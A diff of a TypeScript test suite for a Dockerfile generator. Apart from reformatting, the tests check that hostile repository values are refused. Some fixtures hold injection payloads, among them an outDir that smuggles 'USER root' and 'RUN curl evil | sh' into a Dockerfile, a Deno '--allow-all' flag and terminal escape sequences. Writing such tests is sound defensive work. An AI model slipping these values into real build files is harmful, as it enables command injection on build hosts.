@@ -31,7 +31,10 @@ function project(files: Record<string, string>): string {
 }
 
 const run = (dir: string, options: Record<string, unknown> = {}) =>
-  helpers.run(GENERATOR_PATH, { namespace: 'docker-prod:app' }).cd(dir).withOptions({ yes: true, force: false, ...options } as never);
+  helpers
+    .run(GENERATOR_PATH, { namespace: 'docker-prod:app' })
+    .cd(dir)
+    .withOptions({ yes: true, force: false, ...options } as never);
 
 function assertNothingWritten(dir: string): void {
   for (const file of OUTPUTS) {
@@ -67,7 +70,11 @@ interface ChildOutcome {
 
 /** The pipeline in a child process, killed after CHILD_LIMIT_MS (then the test fails). */
 function inChild(dir: string, flags: Record<string, string> = {}): ChildOutcome {
-  const result = spawnSync(process.execPath, ['--max-old-space-size=256', CHILD, dir, JSON.stringify(flags)], { encoding: 'utf8', timeout: CHILD_LIMIT_MS, maxBuffer: 16 * 1024 * 1024 });
+  const result = spawnSync(process.execPath, ['--max-old-space-size=256', CHILD, dir, JSON.stringify(flags)], {
+    encoding: 'utf8',
+    timeout: CHILD_LIMIT_MS,
+    maxBuffer: 16 * 1024 * 1024,
+  });
   assert.equal(result.signal, null, `the pipeline was killed after ${CHILD_LIMIT_MS} ms (hang or runaway memory): ${result.stderr}`);
   assert.equal(result.status, 0, result.stderr);
   return JSON.parse(result.stdout.trim().split('\n').pop()!) as ChildOutcome;
@@ -86,7 +93,10 @@ function assertRuntimeTail(dockerfile: string): void {
   const tail = keywords.includes('ENTRYPOINT') ? ['USER', 'EXPOSE', 'HEALTHCHECK', 'ENTRYPOINT', 'CMD'] : ['USER', 'EXPOSE', 'HEALTHCHECK', 'CMD'];
   assert.deepEqual(keywords.slice(userAt), tail, dockerfile);
   const beforeUser = keywords.slice(0, userAt);
-  assert.ok(beforeUser.every((k) => ['LABEL', 'ENV', 'WORKDIR', 'COPY'].includes(k)), `only LABEL/ENV/WORKDIR/COPY before USER: ${beforeUser.join(' ')}`);
+  assert.ok(
+    beforeUser.every((k) => ['LABEL', 'ENV', 'WORKDIR', 'COPY'].includes(k)),
+    `only LABEL/ENV/WORKDIR/COPY before USER: ${beforeUser.join(' ')}`,
+  );
 }
 
 const nodeTs = (tsconfig: string, extra: Record<string, string> = {}) => ({
@@ -135,7 +145,10 @@ describe('hostile repositories (detection side)', function () {
   describe('2. repo values never become Dockerfile instructions', () => {
     it('a line break in tsconfig.json outDir: refused naming tsconfig.json and its line, nothing written', async () => {
       const dir = project(nodeTs('{\n  "compilerOptions": {\n    "outDir": "dist\\nUSER root\\nRUN curl evil | sh"\n  }\n}\n'));
-      const message = await refusedByGenerator(dir, /^tsconfig\.json line 3 "compilerOptions\.outDir": "dist\\nUSER root.*" cannot be used: .*pass --start-command to override it/);
+      const message = await refusedByGenerator(
+        dir,
+        /^tsconfig\.json line 3 "compilerOptions\.outDir": "dist\\nUSER root.*" cannot be used: .*pass --start-command to override it/,
+      );
       assert.doesNotMatch(message, /^--/);
     });
 
@@ -158,7 +171,10 @@ describe('hostile repositories (detection side)', function () {
         'package.json': '{\n  "name": "x",\n  "main": "lib\\\\/server.js",\n  "scripts": { "build": "tsc" },\n  "devDependencies": { "typescript": "5" }\n}\n',
         'package-lock.json': '{}',
       });
-      await refusedByGenerator(dir, /^package\.json line 3 "main": "node 'lib\\\\\/server\.js'" cannot be used: .*folder "lib\\\\".*pass --start-command to override it/);
+      await refusedByGenerator(
+        dir,
+        /^package\.json line 3 "main": "node 'lib\\\\\/server\.js'" cannot be used: .*folder "lib\\\\".*pass --start-command to override it/,
+      );
     });
 
     it('a $VAR file name included from requirements.txt is refused naming the file and line (Docker would expand it)', async () => {
@@ -179,7 +195,11 @@ describe('hostile repositories (detection side)', function () {
     });
 
     it('a line break in an unused outDir is set aside with a note, and the Dockerfile keeps its shape', async () => {
-      const dir = project(nodeTs('{ "compilerOptions": { "outDir": "x\\nRUN id" } }', { 'package.json': JSON.stringify({ name: 'n', main: 'dist/server.js', scripts: { build: 'tsc' }, devDependencies: { typescript: '5' } }) }));
+      const dir = project(
+        nodeTs('{ "compilerOptions": { "outDir": "x\\nRUN id" } }', {
+          'package.json': JSON.stringify({ name: 'n', main: 'dist/server.js', scripts: { build: 'tsc' }, devDependencies: { typescript: '5' } }),
+        }),
+      );
       const { files, resolution } = await generate(dir);
       const dockerfile = fileContent(files, 'Dockerfile');
       assert.doesNotMatch(dockerfile, /RUN id/);
@@ -206,7 +226,12 @@ describe('hostile repositories (detection side)', function () {
 
     it('requirements.txt, pyproject.toml and .yarnrc.yml of 300,000 blank lines: scanned at once (no ^\\s* across lines)', () => {
       const blank = '\n'.repeat(300_000);
-      const py = project({ ...flaskFiles, 'requirements.txt': `${blank}flask==3.1.0\n`, 'pyproject.toml': `${blank}[project]\nname = "p"\n`, Pipfile: `${blank}[packages]\n` });
+      const py = project({
+        ...flaskFiles,
+        'requirements.txt': `${blank}flask==3.1.0\n`,
+        'pyproject.toml': `${blank}[project]\nname = "p"\n`,
+        Pipfile: `${blank}[packages]\n`,
+      });
       const out = inChild(py);
       assert.ok(out.ok, out.message);
       const node = project({ 'package.json': '{"name": "n"}', 'index.js': '', '.yarnrc.yml': blank, 'yarn.lock': '' });
@@ -275,13 +300,16 @@ describe('hostile repositories (detection side)', function () {
       it(`${label}: ignored with a note, and the files are written`, async () => {
         const dir = project({ 'package.json': JSON.stringify(pkg), 'server.js': 'require("http").createServer().listen(process.env.PORT || 8080);\n' });
         const { resolution } = await generate(dir);
-        assert.ok(resolution.warnings.some((w) => /^package\.json ".*" is .*: ignored$/.test(w)), resolution.warnings.join('\n'));
+        assert.ok(
+          resolution.warnings.some((w) => /^package\.json ".*" is .*: ignored$/.test(w)),
+          resolution.warnings.join('\n'),
+        );
         await run(dir);
         assertRuntimeTail(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'));
       });
     }
 
-    it('a folder named Dockerfile: refused before yo\'s conflicter, with a clear message', async () => {
+    it("a folder named Dockerfile: refused before yo's conflicter, with a clear message", async () => {
       const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '', 'Dockerfile/keep': 'mine' });
       await refusedByGenerator(dir, /Dockerfile is a folder; the generator writes a file of that name: rename or remove the folder/);
       assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile/keep'), 'utf8'), 'mine');
@@ -295,8 +323,18 @@ describe('hostile repositories (detection side)', function () {
     });
 
     it('angular.json of any shape: no crash', async () => {
-      for (const angular of ['null', '[]', '{"projects": null}', '{"projects": {"a": null, "b": {"architect": null}}}', '{"projects": {"constructor": {"architect": {"build": {"options": {"outputPath": 5}}}}}}']) {
-        const dir = project({ 'package.json': JSON.stringify({ name: 'ng', scripts: { build: 'ng build' }, devDependencies: { '@angular/core': '19', '@angular/build': '19' } }), 'package-lock.json': '{}', 'angular.json': angular });
+      for (const angular of [
+        'null',
+        '[]',
+        '{"projects": null}',
+        '{"projects": {"a": null, "b": {"architect": null}}}',
+        '{"projects": {"constructor": {"architect": {"build": {"options": {"outputPath": 5}}}}}}',
+      ]) {
+        const dir = project({
+          'package.json': JSON.stringify({ name: 'ng', scripts: { build: 'ng build' }, devDependencies: { '@angular/core': '19', '@angular/build': '19' } }),
+          'package-lock.json': '{}',
+          'angular.json': angular,
+        });
         const { files } = await generate(dir);
         assert.match(fileContent(files, 'Dockerfile'), /^COPY --from=build \/app\/dist\/[A-Za-z]*\/? \/usr\/share\/nginx\/html\/$/m, angular);
       }
@@ -309,13 +347,18 @@ describe('hostile repositories (detection side)', function () {
 
     it('the summary shows repo text without escape sequences or fake lines', async () => {
       const dir = project({
-        'package.json': JSON.stringify({ name: 'n', main: 'server.js', scripts: { [`x${OSC52}${ERASE}\nport 1 fake`]: 5 }, packageManager: `npm@10.9.0+sha${OSC52}` }),
+        'package.json': JSON.stringify({
+          name: 'n',
+          main: 'server.js',
+          scripts: { [`x${OSC52}${ERASE}\nport 1 fake`]: 5 },
+          packageManager: `npm@10.9.0+sha${OSC52}`,
+        }),
         'server.js': 'require("http").createServer().listen(process.env.PORT || 8080);\n',
       });
       const { resolution, files } = await generate(dir);
       const summary = formatSummary(resolution, files);
       assert.doesNotMatch(summary, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control characters but line breaks');
-      assert.ok(!summary.split('\n').some((l) => /^port 1 fake/.test(l.trim())), 'no line of the repo\'s making');
+      assert.ok(!summary.split('\n').some((l) => /^port 1 fake/.test(l.trim())), "no line of the repo's making");
       assert.match(summary, /Warning: package\.json "scripts\.x.*" is a number/);
     });
 
@@ -340,20 +383,37 @@ describe('hostile repositories (detection side)', function () {
     });
 
     it('a Go module with several main packages: says what was detected and the flag to pass', async () => {
-      const dir = project({ 'go.mod': 'module example.com/svc\n\ngo 1.22\n', 'cmd/a/main.go': 'package main\nfunc main() {}\n', 'cmd/b/main.go': 'package main\nfunc main() {}\n' });
-      const message = await refusedByGenerator(dir, /^the detected main package \(several main packages: \.\/cmd\/a \(cmd\/a\/main\.go\), \.\/cmd\/b \(cmd\/b\/main\.go\)\): "" cannot be used: .*pass --main-package to choose it/);
+      const dir = project({
+        'go.mod': 'module example.com/svc\n\ngo 1.22\n',
+        'cmd/a/main.go': 'package main\nfunc main() {}\n',
+        'cmd/b/main.go': 'package main\nfunc main() {}\n',
+      });
+      const message = await refusedByGenerator(
+        dir,
+        /^the detected main package \(several main packages: \.\/cmd\/a \(cmd\/a\/main\.go\), \.\/cmd\/b \(cmd\/b\/main\.go\)\): "" cannot be used: .*pass --main-package to choose it/,
+      );
       assert.doesNotMatch(message, /--main-package: /);
     });
 
     it('Go main packages in cmd/my app are not skipped without a word', async () => {
-      const dir = project({ 'go.mod': 'module example.com/svc\n\ngo 1.22\n', 'main.go': 'package main\nfunc main() {}\n', 'cmd/my app/main.go': 'package main\nfunc main() {}\n' });
+      const dir = project({
+        'go.mod': 'module example.com/svc\n\ngo 1.22\n',
+        'main.go': 'package main\nfunc main() {}\n',
+        'cmd/my app/main.go': 'package main\nfunc main() {}\n',
+      });
       const { resolution } = await generate(dir);
-      assert.ok(resolution.warnings.some((w) => /package main in "cmd\/my app" skipped: .*rename the folder/.test(w)), resolution.warnings.join('\n'));
+      assert.ok(
+        resolution.warnings.some((w) => /package main in "cmd\/my app" skipped: .*rename the folder/.test(w)),
+        resolution.warnings.join('\n'),
+      );
     });
 
     it('a plain file named .github: a clear message, not "permission denied"', async () => {
       const dir = project({ 'package.json': '{"name": "n"}', 'index.js': '', '.github': 'not a folder' });
-      const message = await refusedByGenerator(dir, /\.github is a file, not a folder, so \.github\/workflows\/docker\.yml cannot be created in it: rename or remove \.github, or pass --ci none/);
+      const message = await refusedByGenerator(
+        dir,
+        /\.github is a file, not a folder, so \.github\/workflows\/docker\.yml cannot be created in it: rename or remove \.github, or pass --ci none/,
+      );
       assert.doesNotMatch(message, /permission denied/);
     });
 
@@ -368,7 +428,10 @@ describe('hostile repositories (detection side)', function () {
       await assert.rejects(generate(dir), (e: unknown) => e instanceof DetectedValueError && e.flag === 'port');
       const ok = await generate(dir, { port: '8080' });
       assert.equal(ok.resolution.answers.port, 8080, 'the flag overrides the detected value');
-      await assert.rejects(generate(dir, { port: '80' }), (e: unknown) => e instanceof Error && e.name === 'InputError' && /^--port: "80" is not allowed/.test(e.message));
+      await assert.rejects(
+        generate(dir, { port: '80' }),
+        (e: unknown) => e instanceof Error && e.name === 'InputError' && /^--port: "80" is not allowed/.test(e.message),
+      );
     });
   });
 
@@ -417,7 +480,15 @@ describe('hostile repositories (detection side)', function () {
         'main.ts': 'Deno.env.get("OK_NAME"); Deno.env.get("bad,--allow-all"); Deno.serve(() => new Response("x"));\n',
       });
       const { resolution, files } = await generate(dir);
-      assert.deepEqual(resolution.answers.startCommand, ['deno', 'run', '--frozen', '--cached-only', '--allow-net=:8000', '--allow-env=OK_NAME,PORT', 'main.ts']);
+      assert.deepEqual(resolution.answers.startCommand, [
+        'deno',
+        'run',
+        '--frozen',
+        '--cached-only',
+        '--allow-net=:8000',
+        '--allow-env=OK_NAME,PORT',
+        'main.ts',
+      ]);
       assert.doesNotMatch(fileContent(files, 'Dockerfile'), /evil|allow-all/);
     });
   });
